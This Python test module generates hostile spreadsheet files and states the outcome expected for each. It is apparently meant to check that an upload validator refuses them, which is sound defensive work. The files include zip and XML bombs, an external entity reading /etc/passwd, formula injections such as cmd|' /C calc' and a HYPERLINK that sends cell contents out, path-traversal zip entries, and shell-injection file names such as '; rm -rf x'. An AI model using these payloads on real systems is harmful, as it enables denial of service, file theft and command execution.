"""Files that would stop, fool or exhaust whoever reads them carelessly, made by code, with what must come of each.

Nothing here reads a file or knows how the pipeline does. A limit is overstepped as cheaply as it can be: what a zip
only claims to hold is never made, and what must be large is one block over and over.
"""

import os
import random
import re
import socket
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from functools import cache
from io import BytesIO
from pathlib import Path
from tempfile import TemporaryDirectory

from tests.returns import (
    SHEET,
    CaseReturn,
    Writer,
    valid_return,
    write_csv,
    write_ods,
    write_xls,
    write_xlsx,
    write_xlsx_as_excel,
)

MEBIBYTE = 2**20
LAST_ROW = 2**20

Make = Callable[[Path], object]
Edit = Callable[[bytes], bytes]


@dataclass(frozen=True)
class Read:
    """A file is read: how many of its cases are accepted, and which rules the others break."""

    accepted: int = 4
    rules: frozenset[str] = frozenset()


@dataclass(frozen=True)
class HostileFile:
    """A file, how it is made, and the rule by which it is refused, or what is read in it."""

    kind: str
    name: str
    make: Make
    outcome: str | Read


def broken_cell(rule: str) -> Read:
    """One of the four cases is held back."""
    return Read(3, frozenset({rule}))


OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
SHEET_1, STRINGS, STYLES = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/styles.xml"
WORKBOOK, RELATIONS, ROOT = "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "_rels/.rels"
CONTENT, MANIFEST = "content.xml", "META-INF/manifest.xml"


# What a file is made of


def content_of(write: Writer, given: CaseReturn, ending: str) -> bytes:
    with TemporaryDirectory() as folder:
        return write(Path(folder, f"a{ending}"), {SHEET: given.rows()}).read_bytes()


@cache
def good(ending: str) -> bytes:
    """A valid return of four cases, of a format."""
    writers = {".xlsx": write_xlsx_as_excel, ".xls": write_xls, ".ods": write_ods, ".csv": write_csv}
    return content_of(writers[ending], valid_return(), ending)


@cache
def unpacked(ending: str) -> Mapping[str, bytes]:
    """The parts of a valid return, by name."""
    with zipfile.ZipFile(BytesIO(good(ending))) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def written(content: bytes) -> Make:
    return lambda path: path.write_bytes(content)


def changed(ending: str, column: str, cell: object) -> Make:
    """A valid return with one other cell."""

    def make(path: Path) -> None:
        given = valid_return()
        given.cases[0][column] = cell
        writers = {".xlsx": write_xlsx, ".xls": write_xls, ".ods": write_ods, ".csv": write_csv}
        path.write_bytes(content_of(writers[ending], given, ending))

    return make


def edited(ending: str, edits: Mapping[str, Edit]) -> Make:
    """A valid zipped return with other contents of some parts."""
    return lambda path: _zipped(path, {n: edits.get(n, bytes)(c) for n, c in unpacked(ending).items()})


def xlsx(**edits: Edit) -> Make:
    """A valid .xlsx with edits to its sheet, strings, styles, workbook, relations or root."""
    parts = {"sheet": SHEET_1, "strings": STRINGS, "styles": STYLES, "workbook": WORKBOOK} | {
        "relations": RELATIONS,
        "root": ROOT,
    }
    return edited(".xlsx", {parts[name]: edit for name, edit in edits.items()})


def ods(edit: Edit) -> Make:
    return edited(".ods", {CONTENT: edit})


def with_parts(ending: str, more: Mapping[str, bytes]) -> Make:
    return lambda path: _zipped(path, {**unpacked(ending), **more})


def without(ending: str, part: str) -> Make:
    return lambda path: _zipped(path, {n: c for n, c in unpacked(ending).items() if n != part})


def _zipped(path: Path, parts: Mapping[str, bytes]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)


def replacing(old: bytes, new: bytes) -> Edit:
    """The first of something by something else, which must be there."""

    def edit(content: bytes) -> bytes:
        assert old in content, old
        return content.replace(old, new, 1)

    return edit


def replacing_cell(address: str, new: str) -> Edit:
    """A whole cell of the sheet by something else."""
    return lambda xml: re.sub(rf'<c r="{address}"[^>]*>.*?</c>'.encode(), lambda _: new.encode(), xml, count=1)


def before(end: bytes, more: bytes) -> Edit:
    return replacing(end, more + end)


def more_rows(xml: bytes) -> Edit:
    return before(b"</sheetData>", xml)


@dataclass(frozen=True)
class Packed:
    """The content of a part, deflated, with what the zip says of it."""

    content: bytes
    size: int
    checksum: int


def packed(*blocks: tuple[bytes, int], size: int | None = None) -> Packed:
    """Blocks, each so many times over, without ever making them. The zip may say another size."""
    content, expanded, checksum = b"", 0, 0
    for block, times in blocks:
        packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
        content += (packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)) * times
        expanded += len(block) * times
        for _ in range(times):
            checksum = zlib.crc32(block, checksum)
    return Packed(content + b"\x03\x00", expanded if size is None else size, checksum)


def packed_as(ending: str, more: Mapping[str, Packed], times: int = 1) -> Make:
    """A valid return with these parts, in place of or beside its own; each stands in the directory so many times."""

    def make(path: Path) -> None:
        own = {name: packed((content, 1)) for name, content in unpacked(ending).items()}
        body, directory = b"", []
        for name, part in {**own, **more}.items():
            fields = struct.pack("<HHHHHIII", 20, 0, 8, 0, 0, part.checksum, len(part.content), part.size)
            for copy in range(times if name in more else 1):
                named = (f"{copy}{name}" if copy else name).encode()
                lengths = struct.pack("<HHHHHII", len(named), 0, 0, 0, 0, 0, len(body))
                directory.append(b"PK\x01\x02" + struct.pack("<H", 20) + fields + lengths + named)
            body += b"PK\x03\x04" + fields + struct.pack("<HH", len(name), 0) + name.encode() + part.content
        listed = b"".join(directory)
        end = struct.pack("<HHHHIIH", 0, 0, len(directory), len(directory), len(listed), len(body), 0)
        path.write_bytes(body + listed + b"PK\x05\x06" + end)

    return make


# Kind by kind


def over_a_limit() -> Iterator[HostileFile]:
    def of(name: str, make: Make, outcome: str | Read = "F02") -> HostileFile:
        return HostileFile("over a limit", name, make, outcome)

    def sparse(path: Path) -> None:
        path.write_bytes(good(path.suffix))
        os.truncate(path, 50 * MEBIBYTE + 1)

    def sheets(write: Writer, how_many: int) -> Make:
        rows = valid_return().rows()
        return lambda path: write(path, {SHEET: rows, **{f"Sheet {n}": [["x"]] for n in range(1, how_many)}})

    row, ods_row = b"<row><c><v>1</v></c></row>", b"<table:table-row%s>%s</table:table-row>"
    number = b'<table:table-cell%s office:value-type="float" office:value="1"/>'
    below = before(b"</table:table>", ods_row % (b' table:number-rows-repeated="200001"', number % b""))
    beside = before(b"</table:table>", ods_row % (b"", number % b' table:number-columns-repeated="501"'))
    yield of("larger than 50 MB.xlsx", sparse)
    yield of("larger than 50 MB.xls", sparse)
    yield of("larger than 50 MB.ods", sparse)
    yield of("larger than 50 MB.csv", sparse)
    yield of("101 sheets.xlsx", sheets(write_xlsx_as_excel, 101))
    yield of("100 sheets.xlsx", sheets(write_xlsx_as_excel, 100), Read())
    yield of("300 sheets.xlsx", sheets(write_xlsx_as_excel, 300))
    yield of("300 sheets.ods", sheets(write_ods, 300))
    yield of("300 sheets.xls", sheets(write_xls, 300))
    yield of("200,001 rows.xlsx", xlsx(sheet=more_rows(row * 200_001)))
    yield of("200,001 rows.ods", ods(below))
    yield of("200,001 rows.csv", written(good(".csv") + b"x\r\n" * 200_001))
    yield of("200,000 rows.csv", written(good(".csv") + b"x\r\n" * 199_995), Read())
    yield of("501 columns.xlsx", xlsx(sheet=more_rows(b"<row>" + b"<c><v>1</v></c>" * 501 + b"</row>")))
    yield of("501 columns.ods", ods(beside))
    yield of("600 columns.csv", written(good(".csv") + b"1," * 600 + b"\r\n"))
    yield of("600 commas.csv", written(good(".csv") + b"1" + b"," * 600 + b"\r\n"), Read())


def protected() -> Iterator[HostileFile]:
    def of(name: str, make: Make) -> HostileFile:
        return HostileFile("password-protected", name, make, "F01")

    encrypted_package = OLE2 + bytes(1016) + "EncryptedPackage".encode("utf-16-le") + bytes(6000)
    in_manifest = replacing(b'"text/xml"/>', b'"text/xml"><manifest:encryption-data/></manifest:file-entry>')

    def flagged(path: Path) -> None:
        content = bytearray(good(".xlsx"))
        for signature, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            for found in re.finditer(re.escape(signature), good(".xlsx")):
                content[found.start() + place] |= 1
        path.write_bytes(content)

    yield of("encrypted.xlsx", written(encrypted_package))
    yield of("encrypted.xlsm", written(encrypted_package))
    yield of("encrypted.ods", edited(".ods", {MANIFEST: in_manifest}))
    yield of("encrypted by the zip.xlsx", flagged)
    # the record after the first of the workbook becomes the one that says how it is encrypted
    first_records = b"\x09\x08\x10\x00" + good(".xls").split(b"\x09\x08\x10\x00", 1)[1][:16]
    yield of("encrypted.xls", written(replacing(first_records, first_records + b"\x2f\x00\x02\x00")(good(".xls"))))


def truncated() -> Iterator[HostileFile]:
    for ending in (".xlsx", ".ods", ".xls"):
        content = good(ending)
        for kept in (1, 8, 600, len(content) // 3, len(content) // 2, len(content) - 600):
            yield HostileFile("truncated", f"cut to {kept} bytes{ending}", written(content[:kept]), "F01")
    for ending in (".xlsx", ".ods"):
        yield HostileFile("truncated", f"without its last byte{ending}", written(good(ending)[:-1]), "F01")
        yield HostileFile("truncated", f"without its first byte{ending}", written(good(ending)[1:]), "F01")
    in_quotes = good(".csv").replace(b"Gwent", b'"Gwent', 1)
    yield HostileFile("truncated", "cut within quotes.csv", written(in_quotes), "F01")


def renamed() -> Iterator[HostileFile]:
    other = {
        "html": b"<html><table><tr><td>Case reference</td></tr></table></html>",
        "xml": b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>',
        "pdf": b"%PDF-1.7\n" + bytes(range(256)),
        "jpeg": b"\xff\xd8\xff\xe0" + bytes(range(256)),
        "rtf": b"{\\rtf1 Case reference}",
    }
    for written_as in (".xlsx", ".xls", ".ods", ".csv"):
        for ending in (".xlsx", ".xlsm", ".xls", ".ods", ".csv"):
            same = written_as == ending or (written_as, ending) == (".xlsx", ".xlsm")
            outcome = Read() if same else "F01"
            yield HostileFile("renamed", f"{written_as[1:]} called{ending}", written(good(written_as)), outcome)
    for name, content in other.items():
        yield HostileFile("renamed", f"{name} called.xls", written(content), "F01")
        yield HostileFile("renamed", f"{name} called.xlsx", written(content), "F01")
    yield HostileFile("renamed", "without an ending", written(good(".xlsx")), "F01")
    yield HostileFile("renamed", "saved as.xlsb", written(good(".xlsx")), "F01")
    document = {ROOT: unpacked(".xlsx")[ROOT].replace(b"xl/workbook", b"word/document"), "word/document.xml": b"<x/>"}
    yield HostileFile("renamed", "docx called.xlsx", lambda path: _zipped(path, document), "F01")


def with_macros() -> Iterator[HostileFile]:
    macros = {"xl/vbaProject.bin": OLE2 + random.Random(1).randbytes(4000)}
    sheet = {"xl/macrosheets/sheet1.xml": b"<xm:macrosheet><x>=EXEC(calc)</x></xm:macrosheet>"}
    control = {"xl/activeX/activeX1.bin": bytes(100), "xl/embeddings/oleObject1.bin": OLE2 + bytes(1000)}
    for name, more in {"macros": macros, "macro sheet": sheet, "controls": control}.items():
        yield HostileFile("macro-bearing", f"{name}.xlsm", with_parts(".xlsx", more), Read())
        yield HostileFile("macro-bearing", f"{name}.xlsx", with_parts(".xlsx", more), Read())


def xml_bombs() -> Iterator[HostileFile]:
    laughs = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))
    bombs = {
        "billion laughs": b'<!DOCTYPE x [<!ENTITY l0 "lol">' + laughs + b"]>",
        "outside entity": b'<!DOCTYPE x [<!ENTITY l9 SYSTEM "file:///etc/passwd">]>',
        "quadratic": b'<!DOCTYPE x [<!ENTITY l9 "' + b"A" * 50_000 + b'">]>',
        "outside definition": b'<!DOCTYPE x SYSTEM "http://127.0.0.1:1/x.dtd">',
    }
    places = {
        ("workbook", ".xlsx", WORKBOOK): (b"<workbook", b'sheet name="&l9;'),
        ("relations", ".xlsx", RELATIONS): (b"<Relationships", b'Target="&l9;'),
        ("root", ".xlsx", ROOT): (b"<Relationships", b'Target="&l9;'),
        ("sheet", ".xlsx", SHEET_1): (b"<worksheet", b'<c r="A1" t="&l9;'),
        ("strings", ".xlsx", STRINGS): (b"<sst", b"<t>&l9;"),
        ("styles", ".xlsx", STYLES): (b"<styleSheet", b'fontId="&l9;'),
        ("content", ".ods", CONTENT): (b"<office:document-content", b"<text:p>&l9;"),
    }
    for bomb, declaration in bombs.items():
        for (name, ending, part), (root, use) in places.items():
            used = use * (1000 if bomb == "quadratic" else 1)

            def edit(xml: bytes, root: bytes = root, used: bytes = used, declaration: bytes = declaration) -> bytes:
                return xml.replace(root, declaration + root, 1).replace(used[:8], used, 1)

            yield HostileFile("XML bomb", f"{bomb} in the {name}{ending}", edited(ending, {part: edit}), "F02")
    late = replacing(b"<sst", b" " * 2 * MEBIBYTE + bombs["billion laughs"] + b"<sst")
    yield HostileFile("XML bomb", "billion laughs far into the strings.xlsx", xlsx(strings=late), "F02")
    nobody_reads = {"docProps/core.xml": lambda xml: bombs["billion laughs"] + b"<x>&l9;</x>"}
    yield HostileFile("XML bomb", "billion laughs where nobody reads.xlsx", edited(".xlsx", nobody_reads), Read())


def zip_bombs() -> Iterator[HostileFile]:
    def of(name: str, make: Make, outcome: str | Read = "F02") -> HostileFile:
        return HostileFile("zip bomb", name, make, outcome)

    opening, closing = (unpacked(".xlsx")[SHEET_1].partition(b"</sheetData>")[i] for i in (0, 2))
    zeros, spaces, ones = bytes(MEBIBYTE), b" " * MEBIBYTE, b"0" * MEBIBYTE

    def sheet(block: bytes, times: int, head: bytes = b"", tail: bytes = b"", size: int | None = None) -> Make:
        end = tail + b"</sheetData>" + closing
        return packed_as(".xlsx", {SHEET_1: packed((opening + head, 1), (block, times), (end, 1), size=size)})

    in_cell = (b'<row r="9"><c r="A9" t="inlineStr"><is><t>', b"</t></is></c></row>")
    strings = unpacked(".xlsx")[STRINGS].removesuffix(b"</sst>")
    nested = BytesIO()
    with zipfile.ZipFile(nested, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros", bytes(64 * MEBIBYTE))
    style = b'<style:style style:name="%d" style:family="table"/>'
    yield of("a sheet of 1 GiB of zeros.xlsx", sheet(zeros, 1024))
    yield of("a picture of 2 GiB.xlsx", packed_as(".xlsx", {"xl/media/1.png": packed((zeros, 1), size=2 * 1024**3)}))
    yield of("a content of 3 GiB.ods", packed_as(".ods", {CONTENT: packed((zeros, 1), size=3 * 1024**3)}))
    yield of("300 MiB of spaces.xlsx", sheet(spaces, 300))
    yield of("a cell of 300 MiB.xlsx", sheet(ones, 300, *in_cell))
    yield of("a tag of 300 MiB.xlsx", sheet(ones, 300, b'<row x="', b'"></row>'))
    yield of(
        "a string of 300 MiB.xlsx", packed_as(".xlsx", {STRINGS: packed((strings, 1), (ones, 300), (b"</sst>", 1))})
    )
    yield of("too many cells.xlsx", sheet(b"<row><c><v>1</v></c></row>" * 10_000, 1200))
    yield of(
        "too many strings.xlsx",
        packed_as(".xlsx", {STRINGS: packed((strings, 1), (b"<si><t>a</t></si>" * 10_000, 1800))}),
    )
    yield of("too many open tags.xlsx", sheet(b"<c " * 100_000, 700))
    yield of("says less than it holds.xlsx", sheet(spaces, 60, size=100_000), "F01")
    yield of("says far less than it holds.xlsx", sheet(spaces, 1100, size=100_000))
    yield of(
        "says less of its strings.xlsx",
        packed_as(".xlsx", {STRINGS: packed((strings, 1), (spaces, 60), size=9_000)}),
        "F01",
    )
    whole = unpacked(".xlsx")[SHEET_1]
    more = Packed(packed((whole + b"<x/>", 1)).content, len(whole), zlib.crc32(whole))
    yield of("holds more than its size and checksum.xlsx", packed_as(".xlsx", {SHEET_1: more}), "F01")
    yield of("says more than it holds.xlsx", sheet(b" ", 1, size=900_000), "F01")
    yield of("overlapping.xlsx", packed_as(".xlsx", {"xl/media/1.png": packed((zeros, 20))}, times=60))
    yield of(
        "60,000 parts in one place.xlsx",
        packed_as(".xlsx", {"xl/media/1.png": packed((b"x", 1))}, times=60_000),
        Read(),
    )
    yield of("nested.xlsx", with_parts(".xlsx", {"xl/embeddings/bomb.zip": nested.getvalue()}), Read())
    yield of("itself within.xlsx", with_parts(".xlsx", {"xl/embeddings/self.xlsx": good(".xlsx")}), Read())
    yield of(
        "styles without end.ods",
        ods(before(b"</office:automatic-styles>", b"".join(style % n for n in range(300_000)))),
        Read(),
    )


def impossible_dimensions() -> Iterator[HostileFile]:
    def of(name: str, make: Make, outcome: str | Read = "F02") -> HostileFile:
        return HostileFile("impossible dimensions", name, make, outcome)

    def far(address: str) -> Make:
        row = "".join(filter(str.isdigit, address))
        return xlsx(sheet=more_rows(f'<row r="{row}"><c r="{address}"><v>1</v></c></row>'.encode()))

    def merged(*ranges: str) -> Make:
        cells = "".join(f'<mergeCell ref="{cells}"/>' for cells in ranges).encode()
        return xlsx(sheet=replacing(b"</sheetData>", b"</sheetData><mergeCells>" + cells + b"</mergeCells>"))

    def repeated(rows: int, columns: int, value: bytes = b' office:value-type="float" office:value="1"') -> Make:
        cell = b'<table:table-cell table:number-columns-repeated="%d"%s/>' % (columns, value)
        row = b'<table:table-row table:number-rows-repeated="%d">%s</table:table-row>' % (rows, cell)
        return ods(before(b"</table:table>", row))

    far_corner = [*valid_return().rows(), *[[]] * 65_530, [*[None] * 255, "x"]]
    to_row_300 = more_rows(b'<row r="300"><c r="A300"><v>1</v></c></row>')
    many_merged = b"<mergeCells>" + b'<mergeCell ref="A9:A300"/>' * 100_000 + b"</mergeCells>"
    down_to_300 = before(b"</worksheet>", many_merged)
    yield of("a cell at the far end.xlsx", far("XFD1048576"))
    yield of("a cell below the last row.xlsx", far("A1048577"))
    yield of("a cell in the last row.xlsx", far("A1048576"), Read())
    yield of("a cell in the last column.xlsx", far("XFD9"), Read())
    yield of("a cell beyond the last column.xlsx", far("ZZZ9"))
    yield of("a row beyond counting.xlsx", far("A99999999999"))
    yield of("a row numbered below nothing.xlsx", far("A-5"), "F01")
    yield of(
        "a dimension of everything.xlsx",
        xlsx(sheet=lambda xml: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', xml)),
        Read(),
    )
    yield of(
        "a dimension of nonsense.xlsx",
        xlsx(sheet=lambda xml: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="B0:-1"', xml)),
        "F01",
    )
    yield of("merged below the table.xlsx", merged("A9:XFD1048576"), Read())
    yield of("merged over everything.xlsx", merged("A1:XFD1048576"), "F03")
    yield of("merged again and again.xlsx", xlsx(sheet=lambda xml: down_to_300(to_row_300(xml))))
    yield of("a cell in the last corner.xls", lambda path: write_xls(path, {SHEET: far_corner}), Read())
    yield of(
        "4 billion strings, it says.xlsx",
        xlsx(strings=lambda xml: re.sub(rb'ount="\d+"', b'ount="4294967295"', xml)),
    )
    yield of(
        "4 billion styles, it says.xlsx",
        xlsx(styles=lambda xml: re.sub(rb'count="\d+"', b'count="4294967295"', xml)),
        Read(),
    )
    yield of("filled rows repeated to the last.ods", repeated(LAST_ROW - 5, 1))
    yield of("filled rows repeated beyond.ods", repeated(2**31, 1))
    yield of("filled columns repeated to the last.ods", repeated(1, 16_384))
    yield of("filled columns repeated beyond.ods", repeated(1, 2**31))
    yield of("blank cells repeated beyond.ods", repeated(2**31, 2**31, b""), Read())
    yield of("rows repeated less than never.ods", repeated(-1, 1), "F01")


def empty_rows() -> Iterator[HostileFile]:
    def of(name: str, make: Make) -> HostileFile:
        return HostileFile("a million empty rows", name, make, Read())

    def among(blank: Callable[[int], str], rows: int) -> Make:
        """The four cases apart, in the first, second, third and last quarter of so many rows."""

        def edit(xml: bytes) -> bytes:
            head, body, tail = re.split(rb"(?<=<sheetData>)|(?=</sheetData>)", xml)
            headings, *cases = re.findall(rb"<row.*?</row>", body)
            moved = []
            for quarter, case in enumerate(cases):
                last = rows * (quarter + 1) // 4 + 1
                blanks = (blank(number) for number in range(last - rows // 4 + 1, last))
                moved += ["".join(blanks).encode(), re.sub(rb'(r="[A-Z]*)\d+"', rb'\g<1>%d"' % last, case)]
            return head + headings + b"".join(moved) + tail

        return xlsx(sheet=edit)

    def in_ods(rows: int) -> Make:
        blank = b'<table:table-row table:number-rows-repeated="%d"><table:table-cell/></table:table-row>' % rows
        return ods(lambda xml: xml.replace(b"<table:table-row>", blank + b"<table:table-row>").replace(blank, b"", 1))

    styled = '<row r="{0}" s="1" customFormat="1"><c r="A{0}" s="1"/><c r="C{0}" s="1"/></row>'
    lines = good(".csv").split(b"\r\n")
    yield of("formatted cells.xlsx", among(styled.format, 1_000_000))
    yield of("formatted rows below.xlsx", xlsx(sheet=more_rows(b'<row s="1" customFormat="1"/>' * 1_000_000)))
    yield of("texts of nothing below.xlsx", xlsx(sheet=more_rows(b'<row><c t="str"><v></v></c></row>' * 250_000)))
    yield of("repeated rows.ods", in_ods(250_000))
    yield of("lines.csv", written((b"\r\n" * 60_000).join(lines)))
    yield of("commas.csv", written((b",,,,,,\r\n" * 60_000).join(line + b"\r\n" for line in lines)))


def odd_names() -> Iterator[HostileFile]:
    names = [
        "line\nbreak",
        "carriage\rreturn",
        "tab\there",
        "bell\x07 and escape\x1b[31m",
        'a "quoted" one',
        "it's",
        "back\\slash",
        "-rf",
        "--json",
        "$(touch here)",
        "; rm -rf x",
        "%s%n%d",
        "{0}",
        "CON",
        "a.b..c",
        " spaces ",
        "📋 résumé ŵ",
        "\u202egnorw",
        "e\u0301",
        "\ufeffmark",
        "*?[x]",
        "#REF!",
        "=1+1",
        "a" * 245,
        "ŵ" * 122,
        os.fsdecode(b"not \xff\xfe text"),
        os.fsdecode(b"\xed\xa0\x80"),
    ]
    for place, name in enumerate(names):
        for ending in (".csv", (".xlsx", ".ods", ".xls")[place % 3]):
            yield HostileFile("odd name", name + ending, written(good(ending)), Read())
    yield HostileFile("odd name", ".xlsx", written(good(".xlsx")), "F01")
    yield HostileFile("odd name", "UPPER.XLSX", written(good(".xlsx")), Read())


def no_files() -> Iterator[HostileFile]:
    def of(name: str, make: Make, outcome: str | Read = "F01") -> HostileFile:
        return HostileFile("no file at all", name, make, outcome)

    def listening(path: Path) -> None:
        folder = os.open(path.parent, os.O_RDONLY)
        with socket.socket(socket.AF_UNIX) as server:
            server.bind(f"/proc/self/fd/{folder}/{path.name}")  # a socket's path may not be long
        os.close(folder)

    def unreadable(path: Path) -> None:
        path.write_bytes(good(path.suffix))
        path.chmod(0)

    yield of("a folder.xlsx", Path.mkdir)
    yield of("a folder.csv", Path.mkdir)
    yield of("a pipe.xlsx", os.mkfifo)
    yield of("a pipe.csv", os.mkfifo)
    yield of("a socket.ods", listening)
    yield of("a device.csv", lambda path: path.symlink_to("/dev/zero"))
    yield of("a terminal.xls", lambda path: path.symlink_to("/dev/tty"))
    yield of("a link to nowhere.xlsx", lambda path: path.symlink_to("nowhere"))
    yield of("a link to itself.xlsx", lambda path: path.symlink_to(path.name))
    yield of("gone.xlsx", lambda path: None)
    # to whoever may read everything a file without permission is a file; for others see test_hostile_files.py
    yield of("without permission.csv", unreadable, Read() if os.geteuid() == 0 else "F01")


def no_content() -> Iterator[HostileFile]:
    owner = b"\x0bA. N. Other" + b" " * 44 + "A. N. Other".encode("utf-16-le") + bytes(88)
    chance = random.Random(2)
    for ending in (".xlsx", ".xlsm", ".xls", ".ods"):
        yield HostileFile("office lock file", f"~$good{ending}", written(owner), "F01")
        yield HostileFile("empty", f"empty{ending}", written(b""), "F01")
        yield HostileFile("random bytes", f"random{ending}", written(chance.randbytes(5000)), "F01")
        opening = OLE2 if ending == ".xls" else b"PK\x03\x04"
        yield HostileFile("random bytes", f"rightly begun{ending}", written(opening + chance.randbytes(5000)), "F01")
    yield HostileFile("empty", "empty.csv", written(b""), "F03")
    yield HostileFile("empty", "empty zip.xlsx", written(b"PK\x05\x06" + bytes(18)), "F01")
    yield HostileFile("empty", "only blanks.csv", written(b" ,\r\n" * 1000), "F03")
    yield HostileFile("random bytes", "random.csv", written(chance.randbytes(5000)), "F01")


def wrong_values() -> Iterator[HostileFile]:
    def of(name: str, make: Make, outcome: str | Read) -> HostileFile:
        return HostileFile("wrong value", name, make, outcome)

    def age(value: str) -> Make:
        return xlsx(sheet=replacing_cell("L2", f'<c r="L2"><v>{value}</v></c>'))

    def start_date(value: str) -> Make:
        return xlsx(sheet=lambda xml: re.sub(rb'(<c r="E2"[^>]*>)<v>.*?</v>', rb"\g<1><v>%s</v>" % value.encode(), xml))

    def in_ods(old: bytes, new: bytes) -> Make:
        return ods(lambda xml: xml.replace(old, new, 1))

    for index, outcome in {"99999": "F01", "18446744073709551615": "F01", "": "F04"}.items():
        heading = replacing_cell("A1", f'<c r="A1" t="s"><v>{index}</v></c>')
        yield of(f"string number {index or 'blank'}.xlsx", xlsx(sheet=heading), outcome)
    for number in ("NaN", "INF", "-INF", "1e999", "1E400000000", "0x12", "١٢", "1" * 5000):
        yield of(f"age {number[:12]}.xlsx", age(number), broken_cell("R07"))
    for day in ("1e15", "-1", "2958466", "1e308", "0.5", "60"):
        yield of(f"day {day}.xlsx", start_date(day), broken_cell("R09"))
    for number in (b"NaN", b"inf", b"1e999", b"many", b"1" * 5000):
        yield of(
            f"age {number[:9].decode()}.ods",
            in_ods(b'office:value="18"', b'office:value="%s"' % number),
            broken_cell("R07"),
        )
    for day in (b"99999-01-01", b"0000-00-00", b"2025-02-30", b"soon", b""):
        yield of(
            f"day {day.decode() or 'blank'}.ods",
            in_ods(b'"2025-05-24"', b'"%s"' % day),
            broken_cell("R09" if day else "R08"),
        )
    for name, cell in {"NaN": float("nan"), "infinite": float("inf")}.items():
        yield of(f"age {name}.xls", changed(".xls", "age", cell), broken_cell("R07"))
    yield of("far day.csv", changed(".csv", "start_date", 10**15), broken_cell("R09"))
    yield of("day of 5,000 digits.csv", changed(".csv", "start_date", "1" * 5000), broken_cell("R09"))
    for ending in (".xlsx", ".ods", ".csv"):
        yield of(f"10 MB of text{ending}", long_text(ending), broken_cell("R05"))
    for ending in (".xlsx", ".ods", ".csv", ".xls"):
        for name, text in FORMULAS.items():
            yield of(f"{name}{ending}", changed(ending, "pdu", text), broken_cell("R05"))
    yield of("a boolean of 7.xlsx", xlsx(sheet=replacing_cell("L2", '<c r="L2" t="b"><v>7</v></c>')), "F01")
    yield of("a type of its own.xlsx", xlsx(sheet=replacing_cell("L2", '<c r="L2" t="zz"><v>7</v></c>')), "F01")


FORMULAS = {
    "a link that calls out": '\'=HYPERLINK("http://127.0.0.1:1/"&A1)',
    "a command": "+cmd|' /C calc'!A0",
    "at a sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3",
    "tab": "\t=1+1",
}


def long_text(ending: str) -> Make:
    """10 MB in one cell."""
    text = "Gwent " * (10 * MEBIBYTE // 6)
    if ending == ".xlsx":  # whose writers keep to what Excel allows
        return xlsx(sheet=replacing_cell("B2", f'<c r="B2" t="inlineStr"><is><t>{text}</t></is></c>'))
    return changed(ending, "pdu", text)


def malformed_text() -> Iterator[HostileFile]:
    def of(name: str, make: Make, outcome: str | Read) -> HostileFile:
        return HostileFile("malformed text", name, make, outcome)

    csv = good(".csv")
    pdu = valid_return().cases[0]["pdu"].encode()
    bad = replacing(pdu, pdu + b"\xff\xfe")
    yield of("bytes that are no UTF-8.xlsx", xlsx(strings=bad), "F01")
    yield of("bytes that are no UTF-8.ods", ods(bad), "F01")
    yield of("bytes that are no UTF-8.csv", written(bad(csv)), broken_cell("R05"))
    yield of("bytes that are nothing.csv", written(replacing(pdu, pdu + b"\x81")(csv)), "F01")
    yield of("a control character.xlsx", xlsx(strings=replacing(pdu, pdu + b"&#1;")), broken_cell("R05"))
    yield of("a control character.ods", ods(replacing(pdu, pdu + b"\x01")), "F01")
    yield of("an unknown entity.xlsx", xlsx(strings=replacing(pdu, b"&gwent;")), "F01")
    yield of("an unknown encoding.xlsx", xlsx(sheet=replacing(b'encoding="UTF-8"', b'encoding="zip"')), "F01")
    yield of(
        "an encoding that it is not in.xlsx", xlsx(strings=replacing(b'encoding="UTF-8"', b'encoding="UTF-16"')), "F01"
    )
    yield of(
        "UTF-16 after a million spaces.ods",
        ods(lambda xml: (" " * MEBIBYTE + xml.decode().partition("?>")[2]).encode("utf-16")),
        Read(),
    )
    yield of("a NUL.csv", written(replacing(pdu, b"Gw\0ent")(csv)), "F01")
    yield of("UTF-16.csv", written(csv.decode().encode("utf-16")), "F01")
    yield of("UTF-16 without a mark.csv", written(csv.decode().encode("utf-16-le")), "F01")
    yield of("UTF-32.csv", written(csv.decode().encode("utf-32")), "F01")
    yield of("two marks.csv", written(b"\xef\xbb\xbf" * 2 + csv), "F04")
    yield of("quotation marks alone.csv", written(b'"' * 999_999), "F01")
    yield of("unbalanced from the start.csv", written(b'"' + csv), "F01")
    yield of("text after a quotation mark.csv", written(b'"a"b,c\r\n' + csv), "F01")
    yield of("semicolons.csv", written(csv.replace(b",", b";")), "F03")
    yield of("carriage returns.csv", written(csv.replace(b"\r\n", b"\r")), Read())
    yield of("one line of commas.csv", written(csv + b"," * 10_000_000), Read())
    yield of("one line of letters.csv", written(csv + b"x" * 10_000_000), Read())


def crooked_packages() -> Iterator[HostileFile]:
    def of(name: str, make: Make, outcome: str | Read = "F01") -> HostileFile:
        return HostileFile("crooked package", name, make, outcome)

    evil = {"../../../../tmp/evil.xlsx": b"x", "/etc/cron.d/evil": b"x", "..\\..\\evil": b"x", "xl/../../evil": b"x"}
    to_passwd = replacing(b"worksheets/sheet1.xml", b"../../../../etc/passwd")
    outside = replacing(b'Target="worksheets/sheet1.xml"', b'Target="http://127.0.0.1:1/" TargetMode="External"')
    yield of("paths that lead out.xlsx", with_parts(".xlsx", evil), Read())
    yield of("paths that lead out.ods", with_parts(".ods", evil), Read())
    yield of("a sheet that leads out.xlsx", xlsx(relations=to_passwd))
    yield of("a sheet on the web.xlsx", xlsx(relations=outside))
    yield of("a workbook that leads out.xlsx", xlsx(root=replacing(b"xl/workbook.xml", b"../../etc/passwd")))
